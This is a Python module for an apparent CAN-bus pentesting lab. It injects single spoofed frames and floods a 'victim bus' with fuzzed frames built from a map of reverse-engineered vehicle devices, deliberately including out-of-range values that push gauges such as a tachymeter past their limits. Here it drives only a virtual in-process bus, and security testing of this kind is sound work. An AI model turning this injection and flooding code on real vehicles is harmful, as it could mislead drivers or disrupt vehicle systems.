"""Pentesting toolkit: one-shot injection and map-driven flooding.

A frame map is a line-oriented ASCII file, one reverse-engineered device
per line, `#` starts a comment:

    # device  id  dlc  offset  len  min     max
    tachymeter 244  5    3      2   0x0000  0x015D
    blinkers   188  3    0      1   0x01    0x02

`id` is hexadecimal; `dlc`, `offset` and `len` decimal; `min`/`max`
accept decimal or `0x` hex. The flood loop draws a value for each entry's
mutable span every tick: usually inside [min, max], with a configurable
probability from the whole span instead (the out-of-range case that sends
the gauge past its programmed range).
"""

from __future__ import annotations

import os
import random
import threading
from dataclasses import dataclass, field
from typing import Callable, Iterable, Optional, TextIO, Union

from canlab.bus import RealClock, VirtualBus
from canlab.errors import FrameMapError, SessionError, UnknownInterfaceError
from canlab.frame import CanFrame, parse_frame_text

FLOODING_MESSAGE = "Flooding"


@dataclass(frozen=True)
class FrameMapEntry:
    """One mapping row: where a device's variable bytes live and the
    value range observed for them (big-endian over the span)."""

    device: str
    can_id: int
    dlc: int
    mutable_offset: int
    mutable_len: int
    min_value: int
    max_value: int

    def __post_init__(self):
        if not 0 <= self.can_id <= 0x7FF:
            raise ValueError(f"id 0x{self.can_id:X} outside 11-bit range")
        if not 0 <= self.dlc <= 8:
            raise ValueError(f"dlc {self.dlc} outside 0..8")
        if self.mutable_len < 1:
            raise ValueError("mutable span must cover at least one byte")
        if self.mutable_offset < 0 or self.mutable_offset + self.mutable_len > self.dlc:
            raise ValueError(
                f"mutable span {self.mutable_offset}+{self.mutable_len} "
                f"exceeds dlc {self.dlc}"
            )
        limit = 256 ** self.mutable_len
        if not 0 <= self.min_value <= self.max_value < limit:
            raise ValueError(
                f"range {self.min_value}..{self.max_value} invalid for "
                f"{self.mutable_len}-byte span"
            )


def load_framemap(source: Union[str, os.PathLike, TextIO, Iterable[str]]) -> list[FrameMapEntry]:
    """Parse and validate a frame-map file (path, file object, or lines)."""
    if isinstance(source, (str, os.PathLike)):
        with open(source, "r", encoding="ascii") as fh:
            return load_framemap(fh)
    entries: list[FrameMapEntry] = []
    for lineno, line in enumerate(source, start=1):
        text = line.split("#", 1)[0].strip()
        if not text:
            continue
        fields = text.split()
        if len(fields) != 7:
            raise FrameMapError(
                f"line {lineno}: expected 7 fields "
                f"(device id dlc offset len min max), got {len(fields)}"
            )
        device, id_s, dlc_s, off_s, len_s, min_s, max_s = fields
        try:
            entry = FrameMapEntry(
                device=device,
                can_id=int(id_s, 16),
                dlc=int(dlc_s, 10),
                mutable_offset=int(off_s, 10),
                mutable_len=int(len_s, 10),
                min_value=int(min_s, 0),
                max_value=int(max_s, 0),
            )
        except ValueError as exc:
            raise FrameMapError(f"line {lineno}: {exc}") from exc
        entries.append(entry)
    return entries


def fuzz_value(entry: FrameMapEntry, rng: random.Random,
               out_of_range_probability: float = 0.3) -> bytes:
    """Draw one full payload for the entry.

    Bytes outside the mutable span are zero. With probability
    `1 - out_of_range_probability` the span holds a uniform value in
    [min, max]; otherwise a uniform value over the whole span width,
    which may exceed max (the out-of-range case).
    """
    if rng.random() < out_of_range_probability:
        value = rng.randint(0, 256 ** entry.mutable_len - 1)
    else:
        value = rng.randint(entry.min_value, entry.max_value)
    payload = bytearray(entry.dlc)
    start = entry.mutable_offset
    payload[start:start + entry.mutable_len] = value.to_bytes(entry.mutable_len, "big")
    return bytes(payload)


def fuzz_frame(entry: FrameMapEntry, rng: random.Random,
               out_of_range_probability: float = 0.3) -> CanFrame:
    return CanFrame(entry.can_id, rtr=False, dlc=entry.dlc,
                    data=fuzz_value(entry, rng, out_of_range_probability))


class Session:
    """Connection handle through which frames reach the victim bus."""

    def send_frame(self, frame: CanFrame, interface: Optional[str] = None) -> None:
        raise NotImplementedError

    def close(self) -> None:
        raise NotImplementedError

    @property
    def open(self) -> bool:
        raise NotImplementedError


class LocalSession(Session):
    """Direct handle onto an in-process bus (the `local` session)."""

    def __init__(self, bus: VirtualBus, name: str = "attacker"):
        self.bus = bus
        self._node = bus.attach(name, on_event=lambda _event: None)
        self._open = True

    def send_frame(self, frame: CanFrame, interface: Optional[str] = None) -> None:
        if not self._open:
            raise SessionError("session is closed")
        if interface is not None and interface != self.bus.name:
            raise UnknownInterfaceError(
                f"unknown interface {interface!r} (bus is {self.bus.name!r})"
            )
        self.bus.transmit(self._node, frame)

    def close(self) -> None:
        if self._open:
            self._open = False
            self.bus.detach(self._node)

    @property
    def open(self) -> bool:
        return self._open


def send_once(session: Session, interface: str, frame_text: str) -> CanFrame:
    """`cansend` semantics: parse the text, transmit exactly one frame."""
    frame = parse_frame_text(frame_text)
    session.send_frame(frame, interface=interface)
    return frame


@dataclass
class FloodConfig:
    """Options of the flooding attack (FILEMAP, INTERFACE, SESSION plus
    the fuzzing knobs)."""

    filemap: Union[str, os.PathLike]
    interface: str = "vcan0"
    session: str = "local"
    rate_hz: float = 100.0
    out_of_range_probability: float = 0.3
    seed: int = 0
    duration: Optional[float] = None     # seconds of logical schedule
    max_frames: Optional[int] = None

    def __post_init__(self):
        if self.rate_hz <= 0:
            raise ValueError("rate_hz must be positive")
        if not 0.0 <= self.out_of_range_probability <= 1.0:
            raise ValueError("out_of_range_probability must be in [0, 1]")


@dataclass
class FloodReport:
    """What a flood run actually did."""

    frames_by_device: dict[str, int] = field(default_factory=dict)
    total_frames: int = 0
    elapsed_s: float = 0.0
    stopped_by: str = "completed"


def flood(config: FloodConfig, session: Session,
          stop: Optional[threading.Event] = None,
          clock=None,
          status: Optional[Callable[[str], None]] = None,
          entries: Optional[list[FrameMapEntry]] = None) -> FloodReport:
    """Loop sending fuzzed frames for every map entry at `rate_hz` ticks
    per second until stopped (stop event, duration, or max_frames).

    Emits the "Flooding" status once at start. The transmitted frame
    sequence is fully determined by (seed, map, rate, bounds).
    """
    if entries is None:
        entries = load_framemap(config.filemap)
    if not entries:
        raise FrameMapError(f"frame map {config.filemap!r} holds no entries")
    rng = random.Random(config.seed)
    clock = clock or RealClock()
    notify = status if status is not None else lambda msg: print(msg, flush=True)
    report = FloodReport(frames_by_device={e.device: 0 for e in entries})

    notify(FLOODING_MESSAGE)
    start = clock.now()
    tick = 0
    while True:
        if stop is not None and stop.is_set():
            report.stopped_by = "stop signal"
            break
        if config.duration is not None and tick / config.rate_hz >= config.duration:
            report.stopped_by = "duration"
            break
        if config.max_frames is not None and report.total_frames >= config.max_frames:
            report.stopped_by = "frame budget"
            break
        deadline = start + tick / config.rate_hz
        lag = deadline - clock.now()
        if lag > 0:
            clock.sleep(lag)
        try:
            for entry in entries:
                if config.max_frames is not None and report.total_frames >= config.max_frames:
                    break
                frame = fuzz_frame(entry, rng, config.out_of_range_probability)
                session.send_frame(frame, interface=config.interface)
                report.frames_by_device[entry.device] += 1
                report.total_frames += 1
        except SessionError as exc:
            report.stopped_by = f"session error: {exc}"
            break
        tick += 1
    report.elapsed_s = clock.now() - start
    return report
